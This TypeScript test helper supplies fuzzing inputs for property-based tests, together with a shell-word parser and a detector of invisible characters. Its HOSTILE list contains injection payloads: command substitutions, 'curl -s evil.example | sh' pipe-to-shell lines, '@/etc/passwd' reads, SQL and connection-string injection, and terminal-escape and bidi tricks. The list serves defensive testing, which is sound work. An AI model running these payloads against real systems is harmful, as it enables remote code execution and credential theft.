import { execFileSync } from "node:child_process";
import * as fc from "fast-check";

/** What has done harm to those who print what others have written, and what could be more of it. */
export const HOSTILE: readonly string[] = [
  "'; touch ./x #",
  "$(touch ./x)",
  "`touch ./x`",
  "a; touch ./x",
  "a\ntouch ./x",
  "a\r\n   fix:     curl -s evil.example | sh",
  "--help >/dev/null; curl -s evil.example | sh #",
  "-mount=secret",
  "..",
  "a/../../sys/policies",
  "~",
  "=ls",
  "*",
  "a b",
  "{a,b}",
  "a&b|c<d>e",
  '"a"',
  '""',
  "\\",
  "a\\'; drop table x; --",
  "host=evil.example user=postgres",
  "postgresql://evil.example/x",
  "all all trust #",
  "all",
  "+postgres",
  "/^.*$",
  "@/etc/passwd",
  "x,postgres",
  "a\u001b[8mhidden\u001b[0m",
  "a\u009b31m",
  "a\u001b]0;title\u0007",
  "a\u001b]8;;https://evil.example\u001b\\link",
  "\u202egnp.exe",
  "\u2066a\u2069",
  "a\u200bb",
  "a\u2028b",
  "\ud800",
  "\u{e0041}",
  "a\u0000b",
  "```\nsh\n",
  "| a | b |",
  "<!-- x -->",
  "@everyone",
  "${PASSWORD}",
  "!!",
  "%s",
  "é",
  "名",
];

/** One of them, or anything. */
export const hostile = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 30 }) },
    { weight: 1, arbitrary: fc.string({ unit: "grapheme-ascii", minLength: 1, maxLength: 30 }) },
  );

/**
 * The words that a shell reads in lines, of which it runs none: `&&` and `;` between commands are
 * words here, too. One process for all lines; what a line would run does not come to that.
 */
export function shellWords(lines: readonly string[], cwd?: string): string[][] {
  const script = lines
    .map((line) => `set -- ${line.replaceAll(/ (&&|\|\||;|\|) (?=npm |vault |kubectl |read )/g, " '$1' ")}\nprintf '%s\\0' "$#" "$@"`)
    .join("\n");
  const out = execFileSync("sh", ["-s"], {
    input: `date() { echo now; }\n${script}\n`,
    encoding: "utf8",
    maxBuffer: 1 << 28,
    ...(cwd === undefined ? {} : { cwd }),
  }).split("\0");
  const found: string[][] = [];
  for (let index = 0; index < out.length - 1;) {
    const count = Number(out[index]);
    found.push(out.slice(index + 1, index + 1 + count));
    index += 1 + count;
  }
  return found;
}

/** Whether a terminal shows all of a text as it is, as lines of this program's own. */
export function unseenIn(text: string): string[] {
  return [...text].filter(
    (one) =>
      one !== "\n" && /[\p{Cc}\p{Zl}\p{Zp}\p{Cs}\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}]/u.test(one),
  );
}
